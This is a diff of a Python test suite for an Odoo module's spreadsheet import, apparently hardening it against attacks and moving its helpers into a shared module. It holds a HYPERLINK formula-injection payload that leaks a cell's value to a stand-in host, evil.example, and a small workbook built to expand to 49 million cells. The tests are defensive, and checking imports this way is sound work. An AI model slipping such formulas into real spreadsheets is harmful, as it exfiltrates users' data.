@@ -7,37 +7,26 @@ import re
 import time
 import zipfile
 
-import openpyxl
+from odoo.tests import HttpCase, tagged
 
-from odoo.tests import HttpCase, new_test_user, tagged
+from .common import (
+    GM_GROUPS,
+    MANAGER_GROUPS,
+    REP_GROUPS,
+    SUPERVISOR_GROUPS,
+    call_kw,
+    company_user,
+    read_xlsx,
+    role_password,
+    xlsx,
+)
 
-from .test_approval import GM_GROUPS, REP_GROUPS, SUPERVISOR_GROUPS
-
-MANAGER_GROUPS = "sales_team.group_sale_manager"
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"Click")'
-
-
-def xlsx(header, *rows):
-    workbook = openpyxl.Workbook()
-    sheet = workbook.active
-    sheet.append(list(header))
-    for row in rows:
-        sheet.append(list(row))
-    buffer = io.BytesIO()
-    workbook.save(buffer)
-    return buffer.getvalue()
 
 
 def far_cells():
     """A few kilobytes whose cells reach XFD1 and A3000: 49 million cells once padded out."""
-    workbook = openpyxl.Workbook()
-    sheet = workbook.active
-    sheet.append(["Customer Name", "Star Grade"])
-    sheet["XFD1"] = "x"
-    sheet["A3000"] = "Far Away Trading"
-    buffer = io.BytesIO()
-    workbook.save(buffer)
-    return buffer.getvalue()
+    return xlsx(["Customer Name", "Star Grade"], XFD1="x", A3000="Far Away Trading")
 
 
 def broken_sheet_xml(data):
@@ -64,32 +53,14 @@ class TestImportAttacks(HttpCase):
         self.company.write({"tiering_approver_id": self.approver.id, "tiering_gm_id": self.gm.id})
 
     def _user(self, login, groups):
-        return new_test_user(
-            self.env,
-            login=login,
-            password=login + "_pwd",
-            groups=groups,
-            company_id=self.company.id,
-            company_ids=[(6, 0, self.company.ids)],
-        )
+        return company_user(self.env, self.company, login, groups)
 
     def _login(self, user):
-        self.authenticate(user.login, user.login + "_pwd")
+        self.authenticate(user.login, role_password(user.login))
 
     def _call(self, model, method, *args, **kwargs):
         """``(result, None)`` or ``(None, (error name, message))`` of a JSON-RPC call_kw."""
-        payload = {
-            "jsonrpc": "2.0",
-            "method": "call",
-            "id": 1,
-            "params": {"model": model, "method": method, "args": list(args), "kwargs": kwargs},
-        }
-        response = self.url_open(
-            f"/web/dataset/call_kw/{model}/{method}",
-            data=json.dumps(payload),
-            headers={"Content-Type": "application/json"},
-        )
-        body = response.json()
+        body = call_kw(self, model, method, args, kwargs)
         if "error" in body:
             return None, (body["error"]["data"]["name"], body["error"]["data"]["message"])
         return body["result"], None
@@ -263,6 +234,6 @@ class TestImportAttacks(HttpCase):
         with zipfile.ZipFile(io.BytesIO(data)) as archive:
             sheet_xml = archive.read("xl/worksheets/sheet1.xml")
         self.assertNotIn(b"<f>", sheet_xml, "no formula cell in the classification table")
-        sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
+        sheet = read_xlsx(data).worksheets[0]
         cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == FORMULA]
         self.assertEqual([cell.data_type for cell in cells], ["s"])
